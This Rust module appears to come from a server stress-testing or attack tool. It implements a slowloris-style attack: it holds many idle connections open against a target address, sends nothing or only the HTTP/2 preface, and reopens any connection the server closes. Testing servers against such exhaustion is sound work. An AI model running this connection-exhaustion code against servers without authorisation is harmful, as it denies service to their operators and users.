//! Attacks by connections on which nothing is asked.

use std::io;

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    task::JoinSet,
    time::{Duration, sleep},
};

use super::{control::Control, seen::Seen, socket::Socket};

/// The preface of HTTP/2 and an empty SETTINGS frame.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// Keeps so many connections open, and sends nothing or only the preface; one that the server
/// closes is replaced.
pub(super) async fn mute(
    address: &str,
    connections: usize,
    preface: bool,
    control: &Control,
    seen: &mut Seen,
) {
    let mut open = JoinSet::new();
    loop {
        while open.len() < connections {
            control.pace().await;
            match Socket::connect(address, control).await {
                Ok(socket) => drop(open.spawn(until_closed(socket, preface))),
                Err(_) => {
                    seen.closed += 1;
                    break;
                }
            }
        }
        if open.join_next().await.is_some() {
            seen.closed += 1;
        }
        // A server that closes at once would otherwise meet a loop as fast as its own.
        sleep(Duration::from_millis(1)).await;
    }
}

async fn until_closed(mut socket: Socket, preface: bool) -> io::Result<()> {
    if preface {
        socket.write_all(PREFACE).await?;
    }
    let mut buffer = [0; 1024];
    while socket.read(&mut buffer).await? > 0 {}
    Ok(())
}
